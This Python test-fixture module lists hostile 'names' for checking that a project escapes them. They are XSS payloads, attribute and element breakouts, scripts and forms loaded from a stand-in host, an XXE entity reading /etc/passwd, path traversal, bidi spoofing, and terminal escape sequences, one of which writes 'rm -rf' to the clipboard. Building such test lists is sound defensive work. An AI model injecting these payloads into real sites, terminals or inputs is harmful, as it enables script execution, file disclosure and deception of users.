"""Names that try to be more than names: markup, script, addresses, and characters that deceive or move cursors."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

Context = Literal[
    "element", "double", "single", "unquoted", "title", "style", "comment", "cdata", "svg", "link", "none"
]

UNESCAPED: dict[Context, str] = {
    "element": "<p>{}</p>",
    "double": '<p tabindex="0" title="{}">text</p>',
    "single": "<p tabindex='0' title='{}'>text</p>",
    "unquoted": "<p tabindex=0 title={}>text</p>",
    "title": "<title>{}</title>",
    "style": "<style>p {{ color: {} }}</style><p>text</p>",
    "comment": "<!-- {} -->",
    "cdata": "<svg><![CDATA[{}]]></svg>",
    "svg": '<svg width="200" height="50"><text y="20">{}</text></svg>',
    "link": '<a href="{}">text</a>',
}
"""Context → a page's body that puts a payload there as it stands, which no page of this project may do."""


@dataclass(frozen=True)
class Payload:
    """One hostile name."""

    name: str
    text: str
    bites: Context = "none"
    """Where, unescaped, it makes a browser do something; ``none`` for what deceives readers, parsers or terminals."""


AWAY = "https://away.invalid/"

PAYLOADS: tuple[Payload, ...] = (
    # Scripts.
    Payload("script", "<script>alert(1)</script>", "element"),
    Payload("script, odd case and space", "<ScRiPt\n>throw new Error('heard')</sCrIpT\t>", "element"),
    Payload("script, odd end", "<script>console.log(1)</script x=y/>", "element"),
    Payload("script from elsewhere", f'<script src="{AWAY}x.js"></script>', "element"),
    Payload("script by slash", "<script/x>alert(1)</script>", "element"),
    Payload("script module", "<script type=module>import('data:text/javascript,alert(1)')</script>", "element"),
    Payload("script that opens a window", f"<script>open('{AWAY}')</script>", "element"),
    Payload("script that does not parse", "<script>(</script>", "element"),
    Payload("eval", "<script>eval('alert(1)')</script>", "element"),
    # Event attributes.
    Payload("image that fails", "<img src=x onerror=alert(1)>", "element"),
    Payload("svg onload", "<svg onload=alert(1)>", "element"),
    Payload("svg without spaces", "<svg/onload=alert(1)//", "element"),
    Payload("body onload", "<body onload=alert(1)>", "element"),
    Payload("details ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>", "element"),
    Payload("autofocus", "<input autofocus onfocus=alert(1)>", "element"),
    Payload("video source", "<video><source onerror=alert(1) src=x></video>", "element"),
    Payload("animation", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>", "element"),
    Payload("marquee", "<marquee onstart=alert(1) onfinish=alert(1)>x</marquee>", "none"),
    Payload("hover", "<b onmouseover=alert(1)>x</b>", "element"),
    # Ways out of attributes.
    Payload("out of double quotes, click", '" onclick="alert(1)', "double"),
    Payload("out of double quotes, element", '"><img src=x onerror=alert(1)>', "double"),
    Payload("out of single quotes, click", "' onclick='alert(1)", "single"),
    Payload("out of single quotes, element", "'><svg onload=alert(1)>", "single"),
    Payload("out of no quotes", "x onmouseover=alert(1)", "unquoted"),
    Payload("out of no quotes, no space", "x/onmouseover=alert(1)//", "none"),
    Payload("backtick", "` onmouseover=alert(1) `", "unquoted"),
    Payload("double quotes and focus", '" autofocus tabindex=1 onfocus="alert(1)', "double"),
    # Ways out of elements, comments and sections.
    Payload("out of the title", "</title><script>alert(1)</script>", "title"),
    Payload("out of the style", "</style><script>alert(1)</script>", "style"),
    Payload("out of a comment", "--><script>alert(1)</script><!--", "comment"),
    Payload("out of a comment, odd", "--!><img src=x onerror=alert(1)>", "comment"),
    Payload("out of a section", "]]><img src=x onerror=alert(1)><![CDATA[", "cdata"),
    Payload("out of a text area", "</textarea></noscript></template></select><svg onload=alert(1)>", "element"),
    Payload("out of everything", "'\"></title></style></script></svg>--><script>alert(1)</script>", "svg"),
    # SVG.
    Payload(
        "foreign object", "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src=x /></foreignObject>", "svg"
    ),
    Payload("svg script", "<script>alert(1)</script>", "svg"),
    Payload("svg use", '<use href="data:image/svg+xml,%3Csvg onload=alert(1)%3E#x"/>', "svg"),
    Payload("svg link", '<a xlink:href="javascript:alert(1)"><text y="9">x</text></a>', "svg"),
    Payload("svg image", f'<image href="{AWAY}x.png" width="9" height="9"/>', "svg"),
    Payload("svg set", "<set attributeName=onmouseover to=alert(1)>", "none"),
    # Addresses.
    Payload("javascript:", "javascript:alert(1)", "link"),
    Payload("javascript:, tab and entity", "java\tscript&colon;alert(1)", "link"),
    Payload("javascript:, control before", "\x01javascript:alert(1)", "link"),
    Payload("data:", "data:text/html,<script>alert(1)</script>", "link"),
    Payload("link", f'<a href="{AWAY}" target="_blank">x</a>', "element"),
    Payload("link to save", '<a download="x.exe" href="data:text/plain,x">x</a>', "element"),
    Payload("base", f'<base href="{AWAY}"><img src="x.png">', "element"),
    Payload("refresh", f'<meta http-equiv="refresh" content="0;url={AWAY}">', "element"),
    Payload("frame with a source", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "element"),
    Payload("frame from elsewhere", f'<iframe src="{AWAY}"></iframe>', "element"),
    Payload("object", f'<object data="{AWAY}x"></object><embed src="{AWAY}y">', "element"),
    Payload("form", f'<form action="{AWAY}"><button autofocus>x</button></form>', "element"),
    Payload("style sheet from elsewhere", f'<link rel="stylesheet" href="{AWAY}x.css">', "element"),
    Payload("prefetch", f'<link rel="preload" as="image" href="{AWAY}x.png">', "element"),
    # Styles.
    Payload("import", f'}} </style><style>@import "{AWAY}x.css";', "style"),
    Payload("address in a style", f"}} * {{ background: url({AWAY}x.png) }}", "style"),
    Payload("style element", f"<style>* {{ background: url({AWAY}y.png) }}</style>", "element"),
    Payload("style attribute", f'" style="background:url({AWAY}z.png)', "double"),
    Payload("expression", "xss:expression(alert(1)); -moz-binding: url(x)", "none"),
    # What parsers change.
    Payload(
        "mutation",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    ),
    Payload("mutation by noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "element"),
    Payload("template", "<template shadowrootmode=open><script>alert(1)</script></template>{{7*7}}${7*7}<%= 7*7 %>"),
    Payload("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt; &#60;b&#62; &#x3C;", "none"),
    Payload("entity of XML", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', "none"),
    Payload("instruction of XML", '<?xml-stylesheet href="javascript:alert(1)"?>', "none"),
    Payload("UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "none"),
    Payload("full-width brackets", "＜script＞alert(1)＜/script＞ ﹤b﹥ ‹i›", "none"),
    Payload("broken surrogates", "\ud800<script>alert(1)</script>\udfff", "none"),
    Payload("NUL", "<scr\x00ipt>alert(1)</scr\x00ipt>\x00", "none"),
    Payload("byte-order mark", "\ufeff<\ufeffscript>alert(1)</script>", "none"),
    # What deceives readers, and moves cursors.
    Payload("right to left", "\u202egnp.exe\u202c \u2066x\u2069 \u200fy", "none"),
    Payload("nothing to see", "a\u200bb\u2060c\u00add\ufe0f\U000e0041\u3164", "none"),
    Payload("clear the screen", "\x1b[2J\x1b[Hroot# \x1b[31m", "none"),
    Payload("8-bit controls", "\x9b2J\x9d0;title\x9c\x84\x85\x90", "none"),
    Payload("hyperlink of terminals", "\x1b]8;;https://away.invalid/\x1b\\click\x1b]8;;\x1b\\", "none"),
    Payload("title of terminals", "\x1b]0;owned\x07\x1b]52;c;cm0gLXJm\x07", "none"),
    Payload("over the line", "safe\rdanger\x08\x08\x08\x7f\x0b\x0c", "none"),
    Payload("lines", "one\ntwo\r\nthree\u2028four\u2029five\x85six", "none"),
    Payload("rich markup", "[red]x[/] [link=https://away.invalid/]y[/link] [/] \\[z]", "none"),
    Payload("formatting", "%s%n {0} {x!r} $\\frac{1}{0}$ \\N{BELL}", "none"),
    Payload("not characters", "\uffff\ufdd0\U0010ffff\ufffe", "none"),
    Payload("marks on marks", "Z" + "\u0335\u0321\u0311" * 40, "none"),
    Payload("right-to-left letters", "שכבה.0 الطبقة ١٢٣", "none"),
    Payload("joined", "👩‍👩‍👧‍👦 क्‍ष می‌خواهم", "none"),
    Payload("empty", "", "none"),
    Payload("only spaces", " \t \u3000\xa0", "none"),
    Payload("path", "../../../etc/passwd\\..\\C:\\aux|nul", "none"),
    Payload("very long", "<b onmouseover='alert(1)'>" * 400, "element"),
    Payload("one long word", "W" * 20_000, "none"),
)
